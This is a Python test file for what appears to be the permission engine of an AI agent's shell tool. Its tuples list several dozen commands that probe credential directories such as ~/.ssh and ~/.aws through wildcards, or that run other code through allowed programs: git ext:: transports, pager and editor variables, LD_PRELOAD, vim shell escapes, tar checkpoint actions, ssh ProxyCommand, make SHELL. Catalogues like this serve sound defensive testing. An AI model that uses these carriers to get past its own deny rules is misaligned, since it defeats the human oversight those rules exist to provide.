"""Kin of the rows of attacks: found by trying several hundred lines of the same classes on the engine."""

from __future__ import annotations

import pytest
from verdict_kit import Row, Verdicts, lines

NO_RULE: tuple[str, ...] = ()
LISTED_OUTSIDE = (
    "echo ~/.ssh/*",
    "echo /etc/*",
    "echo ../*",
    "echo $HOME/*",
    "echo '/etc'/*",
    "echo /e\\tc/*",
    "echo {/etc/pass,/etc/shad}*",
    "printf '%s\\n' ~/.ssh/*",
    "for f in ~/.ssh/*; do echo $f; done",
    'for f in /root/.a*; do echo "$f"; done',
    "true /root/*",
    ": ~/*",
    "d=/etc; echo $d/*",
    "cd / && echo *",
    "basename ~/.aws/*",
)
"""A wildcard gives away the names in a directory as `ls` does."""
LISTED_INSIDE = (
    "echo *",
    "echo ./src/*",
    "for f in *.py; do echo $f; done",
    "printf '%s\\n' *.md",
    "echo '/etc/*'",
)
BARE = ("deny Bash:touch *", "allow Bash")
REACHED = (
    "git clone ext::'sh -c touch% /tmp/PWNED' x",
    "git fetch 'ext::touch /tmp/PWNED'",
    "env GIT_PAGER='touch /tmp/PWNED' git log",
    "env -u X GIT_SSH_COMMAND='touch /tmp/PWNED' git fetch",
    "sudo GIT_EDITOR='touch /tmp/PWNED' git commit",
    "env LD_PRELOAD=./x.so git log",
    "nice env PYTHONSTARTUP=./x.py python3",
    "vim -c ':!touch /tmp/PWNED' a.txt",
    "vim +'!touch /tmp/PWNED' a.txt",
    "nvim --headless -c '!touch /tmp/PWNED' -c q",
    "ex -s -c '!touch /tmp/PWNED' -c q a.txt",
    "emacs --batch --eval '(shell-command \"touch /tmp/PWNED\")'",
)
"""What a deny rule means runs inside of another language, or by a variable that a wrapper sets."""
CARRIERS = (
    ("git", "git -c alias.x='!touch /tmp/PWNED' x"),
    ("git", "git --config-env=core.pager=P log"),
    ("git", "git grep --open-files-in-pager=./p.sh x"),
    ("git", "git fetch --upload-pack=./p.sh origin"),
    ("git", "git rebase -x './p.sh' HEAD~1"),
    ("git", "git log --output=.bashrc"),
    ("git", "git hook run pre-commit"),
    ("git", "git submodule foreach ./p.sh"),
    ("tar", "tar xf x.tar --checkpoint-action=exec=./p.sh --checkpoint=1"),
    ("tar", "tar --use-compress-prog ./p.sh -xf x"),
    ("awk", 'awk \'{ printf "x" |& "./p.sh" }\' a.txt'),
    ("sed", "sed -ne '1{e touch x' -e '}' a.txt"),
    ("find", "find . -okdir ./p.sh ';'"),
    ("find", "find . -fprint0 /tmp/PWNED"),
    ("ssh", "ssh -oProxyCommand=./p.sh h"),
    ("scp", "scp -S ./p.sh a h:"),
    ("rsync", "rsync --rsync-path=./p.sh a h:"),
    ("less", "less +'!./p.sh' a.txt"),
    ("man", "man --pager=./p.sh ls"),
    ("sort", "sort --compress-prog ./p.sh a.txt"),
    ("rg", "rg --hostname-bin=./p.sh x"),
    ("fd", "fd -X ./p.sh"),
    ("zip", "zip x.zip a -TT ./p.sh"),
    ("make", "make --eval='x:;./p.sh'"),
    ("make", "make SHELL=./p.sh"),
    ("npm", "npm test --script-shell=./p.sh"),
    ("pip", "pip config edit --editor ./p.sh"),
    ("go", "go test -exec ./p.sh"),
    ("cargo", "cargo build --config 'build.rustc=\"./p.sh\"'"),
    ("gcc", "gcc -wrapper ./p.sh x.c"),
    ("mapfile", "mapfile -C ./p.sh -c 1 x"),
    ("sqlite3", "sqlite3 x '.shell ./p.sh'"),
    ("curl", "curl -o .bashrc http://x.example/"),
    ("split", "split --filter=./p.sh a.txt"),
    ("just", "just --shell ./p.sh x"),
)
"""An allowed program, and how it runs or writes something else."""


@pytest.mark.parametrize(
    "row",
    [*lines(NO_RULE, "ask", LISTED_OUTSIDE), *lines(NO_RULE, "allow", LISTED_INSIDE)],
)
def test_a_wildcard_shows_the_workspace_and_nothing_outside(place: Verdicts, row: Row) -> None:
    assert place.verdict(row) == row.expect


@pytest.mark.parametrize("row", [*lines(BARE, "not allow", REACHED)])
def test_a_deny_reaches_into_what_other_languages_run(place: Verdicts, row: Row) -> None:
    assert place.verdict(row) in ("ask", "deny")


@pytest.mark.parametrize(("program", "command"), CARRIERS, ids=[command[:60] for _, command in CARRIERS])
def test_a_wildcard_on_a_program_covers_nothing_that_it_runs(
    place: Verdicts, program: str, command: str
) -> None:
    assert place.verdict(Row((f"allow Bash:{program} *",), {"command": command}, "ask")) == "ask"
